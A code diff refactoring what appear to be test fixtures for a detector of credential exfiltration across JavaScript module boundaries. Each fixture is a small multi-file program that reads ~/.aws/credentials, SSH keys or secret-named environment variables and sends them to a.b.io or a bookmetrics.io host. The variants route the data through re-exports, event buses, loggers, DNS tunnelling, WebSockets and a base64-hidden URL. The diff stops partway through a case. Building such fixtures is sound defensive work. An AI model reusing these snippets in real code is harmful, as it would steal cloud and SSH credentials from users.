@@ -1,5 +1,14 @@
 import type { ModuleConstructs } from './modules.js';
 
+/** A module that reads credentials. */
+const READS_CREDENTIALS =
+  "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n";
+/** A module that sends what it is given. */
+const POSTS =
+  "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n";
+/** A program that hands the one to the other. */
+const HANDS_OVER = "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n";
+
 export const JAVASCRIPT_MODULES: ModuleConstructs = {
   language: 'javascript',
   cases: [
@@ -7,21 +16,17 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'named',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
       'ns',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs': "import * as c from './collect.mjs';\nimport * as n from './net.mjs';\nn.push(c.grab());\n",
       },
     ],
@@ -40,10 +45,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'reexport',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'index.mjs': "export { grab } from './collect.mjs';\nexport * from './net.mjs';\n",
         'main.mjs': "import { grab, push } from './index.mjs';\npush(grab());\n",
       },
@@ -52,10 +55,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'reexport-ns',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'index.mjs': "export * as source from './collect.mjs';\nexport { push as deliver } from './net.mjs';\n",
         'main.mjs': "import { source, deliver } from './index.mjs';\ndeliver(source.grab());\n",
       },
@@ -109,10 +110,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'bus.mjs':
           "import { EventEmitter } from 'node:events';\nexport class Hub extends EventEmitter {\n  finish(x) { this.emit('done', x); }\n}\n",
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { Hub } from './bus.mjs';\nconst h = new Hub();\nh.on('done', push);\nh.finish(grab());\n",
       },
@@ -136,8 +135,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
         'registry.mjs': 'export const steps = [];\nexport const register = (name, run) => steps.push({ name, run });\n',
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { register } from './registry.mjs';\nregister('profile', () => readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'));\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs':
           "import './collect.mjs';\nimport { steps } from './registry.mjs';\nimport { push } from './net.mjs';\nfor (const s of steps) push({ [s.name]: s.run() });\n",
       },
@@ -149,8 +147,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
         'registry.mjs': 'export const steps = {};\n',
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { steps } from './registry.mjs';\nsteps.profile = () => readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs':
           "import './collect.mjs';\nimport { steps } from './registry.mjs';\nimport { push } from './net.mjs';\nconst out = {};\nfor (const [k, fn] of Object.entries(steps)) out[k] = fn();\npush(out);\n",
       },
@@ -159,10 +156,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'dyn-import',
       'main.mjs',
       {
-        'plugins/profile.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'plugins/profile.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { push } from './net.mjs';\nfor (const n of ['profile']) {\n  const m = await import(`./plugins/${n}.mjs`);\n  push(m.grab());\n}\n",
       },
@@ -171,10 +166,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'dyn-import-then',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs': "import('./collect.mjs').then(({ grab }) => import('./net.mjs').then((n) => n.push(grab())));\n",
       },
     ],
@@ -183,8 +176,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'main.mjs',
       {
         'mw.mjs': 'export const chain = [(p) => ({ ...p, n: 1 }), (p) => { p.meta = { ...process.env }; return p; }];\n',
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs':
           "import { chain } from './mw.mjs';\nimport { push } from './net.mjs';\nlet p = {};\nfor (const m of chain) p = m(p);\npush(p);\n",
       },
@@ -194,8 +186,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'main.mjs',
       {
         'mw.mjs': 'export const chain = [(p) => ({ ...p, n: 1 }), (p) => ({ ...p, meta: process.env })];\n',
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs': "import { chain } from './mw.mjs';\nimport { push } from './net.mjs';\npush(chain.reduce((p, m) => m(p), {}));\n",
       },
     ],
@@ -218,10 +209,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'main.mjs',
       {
         'app.mjs': 'export function createApp({ source, sink }) {\n  return { async run() { await sink(source()); } };\n}\n',
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { createApp } from './app.mjs';\nawait createApp({ source: grab, sink: push }).run();\n",
       },
@@ -293,8 +282,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'buffer',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "const items = [];\nexport function note(x) { items.push(x); }\nprocess.on('exit', () => { fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify(items) }); });\n",
         'main.mjs': "import { grab } from './collect.mjs';\nimport { note } from './net.mjs';\nnote(grab());\n",
@@ -304,8 +292,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'batch-timer',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "class Batch {\n  #items = [];\n  constructor(url) { this.url = url; setInterval(() => this.flush(), 5000).unref(); }\n  add(x) { this.#items.push(x); }\n  async flush() { const body = JSON.stringify({ items: this.#items.splice(0) }); await fetch(this.url, { method: 'POST', body }); }\n}\nexport const batch = new Batch('https://a.b.io/x');\n",
         'main.mjs': "import { grab } from './collect.mjs';\nimport { batch } from './net.mjs';\nbatch.add(grab());\n",
@@ -317,8 +304,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'log.mjs':
           "const sinks = [(l) => process.stderr.write(l + '\\n')];\nexport const addSink = (s) => sinks.push(s);\nexport function debug(msg, extra) { const l = JSON.stringify({ msg, ...extra }); for (const s of sinks) s(l); }\n",
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'main.mjs':
           "import { addSink, debug } from './log.mjs';\nimport { grab } from './collect.mjs';\naddSink((l) => fetch('https://a.b.io/x', { method: 'POST', body: l }));\ndebug('loaded', { p: grab() });\n",
       },
@@ -327,11 +313,10 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'config-url',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "import { readFileSync } from 'node:fs';\nconst cfg = JSON.parse(readFileSync(new URL('./config.json', import.meta.url), 'utf8'));\nexport const push = (d) => fetch(cfg.endpoint, { method: 'POST', body: d });\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
         'config.json': '{"endpoint": "https://a.b.io/x"}',
       },
     ],
@@ -339,11 +324,10 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'config-import',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "import cfg from './config.json' with { type: 'json' };\nexport const push = (d) => fetch(cfg.endpoint, { method: 'POST', body: d });\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
         'config.json': '{"endpoint": "https://a.b.io/x"}',
       },
     ],
@@ -363,10 +347,9 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'main.mjs',
       {
         'const.mjs': "export const HOST = Buffer.from('aHR0cHM6Ly9jb2xsZWN0LmJvb2ttZXRyaWNzLmlvL3YxL2l0ZW1z', 'base64').toString();\n",
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs': "import { HOST } from './const.mjs';\nexport const push = (d) => fetch(HOST, { method: 'POST', body: d });\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
@@ -376,8 +359,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function* read() { for (const n of ['.aws/credentials', '.ssh/id_rsa']) yield readFileSync(join(homedir(), n), 'utf8'); }\n",
         'pack.mjs': "export function* pack(it) { for (const x of it) yield Buffer.from(x).toString('base64'); }\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs':
           "import { read } from './collect.mjs';\nimport { pack } from './pack.mjs';\nimport { push } from './net.mjs';\nfor (const c of pack(read())) await push(c);\n",
       },
@@ -388,8 +370,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport async function* read() { yield readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); }\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs':
           "import { read } from './collect.mjs';\nimport { push } from './net.mjs';\nfor await (const c of read()) await push(c);\n",
       },
@@ -412,8 +393,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { promises as fs } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport const grab = () => Promise.all(['.aws/credentials', '.ssh/id_rsa'].map((n) => fs.readFile(join(homedir(), n), 'utf8')));\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\ngrab().then(push);\n",
       },
     ],
@@ -423,8 +403,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { promises as fs } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport async function grab() {\n  const rs = await Promise.allSettled(['.aws/credentials', '.ssh/id_rsa'].map((n) => fs.readFile(join(homedir(), n), 'utf8')));\n  return rs.filter((r) => r.status === 'fulfilled').map((r) => r.value);\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\ngrab().then((x) => push(x));\n",
       },
     ],
@@ -434,9 +413,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           'export const grab = () => Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k)));\n',
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'net.mjs': POSTS,
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
@@ -458,10 +436,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'retry.mjs':
           'export async function retry(fn, n = 3) {\n  for (let i = 0; i < n; i += 1) {\n    try { return await fn(); } catch { /* again */ }\n  }\n}\n',
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { retry } from './retry.mjs';\nawait retry(() => push(grab()));\n",
       },
@@ -471,11 +447,10 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'main.mjs',
       {
         'hof.mjs': "export const withLog = (fn) => async (...a) => { console.error('start'); return fn(...a); };\n",
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "import { withLog } from './hof.mjs';\nexport const push = withLog(async (d) => fetch('https://a.b.io/x', { method: 'POST', body: d }));\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
@@ -484,10 +459,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'fp.mjs':
           'export const pipe = (...fns) => (x) => fns.reduce((v, f) => f(v), x);\nexport const pipeAsync = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x));\n',
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { pipe } from './fp.mjs';\npipe(grab, (t) => t.split('\\n'), push)();\n",
       },
@@ -497,10 +470,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'main.mjs',
       {
         'fp.mjs': 'export const pipeAsync = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x));\n',
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { pipeAsync } from './fp.mjs';\npipeAsync(grab, push)();\n",
       },
@@ -511,8 +482,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class Source {\n  static #cache;\n  static get() { return (Source.#cache ??= readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8')); }\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs': "import { Source } from './collect.mjs';\nimport { push } from './net.mjs';\npush(Source.get());\n",
       },
     ],
@@ -522,8 +492,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport const env = { get profile() { return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); } };\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs': "import { env } from './collect.mjs';\nimport { push } from './net.mjs';\npush(env.profile);\n",
       },
     ],
@@ -533,8 +502,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class Env { get profile() { return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); } }\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs': "import { Env } from './collect.mjs';\nimport { push } from './net.mjs';\npush(new Env().profile);\n",
       },
     ],
@@ -544,8 +512,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class Rec { constructor() { this.p = readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); } toJSON() { return { p: this.p }; } }\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'net.mjs': POSTS,
         'main.mjs': "import { Rec } from './collect.mjs';\nimport { push } from './net.mjs';\npush(new Rec());\n",
       },
     ],
@@ -562,8 +529,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'axios-inst',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs': "import axios from 'axios';\nexport const api = axios.create({ baseURL: 'https://a.b.io' });\n",
         'main.mjs': "import { api } from './net.mjs';\nimport { grab } from './collect.mjs';\nawait api.post('/v1', { p: grab() });\n",
       },
@@ -572,8 +538,7 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'got-extend',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs': "import got from 'got';\nexport const api = got.extend({ prefixUrl: 'https://a.b.io' });\n",
         'main.mjs':
           "import { api } from './net.mjs';\nimport { grab } from './collect.mjs';\nawait api.post('v1', { json: { p: grab() } });\n",
@@ -583,32 +548,29 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'https-req',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "import https from 'node:https';\nexport function push(d) {\n  const body = JSON.stringify(d);\n  const req = https.request({ hostname: 'a.b.io', path: '/v1', method: 'POST', headers: { 'content-length': Buffer.byteLength(body) } });\n  req.write(body);\n  req.end();\n}\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
       'ws',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs': "import WebSocket from 'ws';\nconst ws = new WebSocket('wss://a.b.io/v1');\nexport const push = (d) => ws.send(d);\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
       'dns',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
         'net.mjs':
           "import dns from 'node:dns';\nexport function push(d) {\n  const h = Buffer.from(d).toString('hex');\n  for (let i = 0; i < h.length; i += 60) dns.resolve(`${h.slice(i, i + 60)}.t.bookmetrics.io`, () => {});\n}\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
@@ -617,10 +579,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'di.mjs':
           'export class Container {\n  #f = new Map();\n  register(n, f) { this.#f.set(n, f); }\n  get(n) { return this.#f.get(n)(this); }\n}\n',
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { Container } from './di.mjs';\nconst c = new Container();\nc.register('source', () => grab);\nc.register('sink', () => push);\nc.get('sink')(c.get('source')());\n",
       },
@@ -629,10 +589,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'switch-cmd',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nswitch (process.argv[2]) {\n  case 'sync':\n    await push(grab());\n    break;\n  default:\n    console.log('x');\n}\n",
       },
@@ -641,10 +599,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       'commander',
       'main.mjs',
       {
-        'collect.mjs':
-          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
+        'collect.mjs': READS_CREDENTIALS,
+        'net.mjs': POSTS,
         'main.mjs':
           "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { Command } from 'commander';\nconst p = new Command();\np.command('sync').action(async () => { await push(grab()); });\np.parse();\n",
       },
@@ -667,9 +623,8 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
           "import { readdirSync, statSync, readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function walk(dir, out = {}) {\n  for (const n of readdirSync(dir)) {\n    const p = join(dir, n);\n    if (statSync(p).isDirectory()) walk(p, out);\n    else out[p] = readFileSync(p, 'utf8');\n  }\n  return out;\n}\nexport const grab = () => walk(join(homedir(), '.ssh'));\n",
-        'net.mjs':
-          "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
-        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n",
+        'net.mjs': POSTS,
+        'main.mjs': HANDS_OVER,
       },
     ],
     [
@@ -678,31 +633,28 @@ export const JAVASCRIPT_MODULES: ModuleConstructs = {
       {
         'collect.mjs':
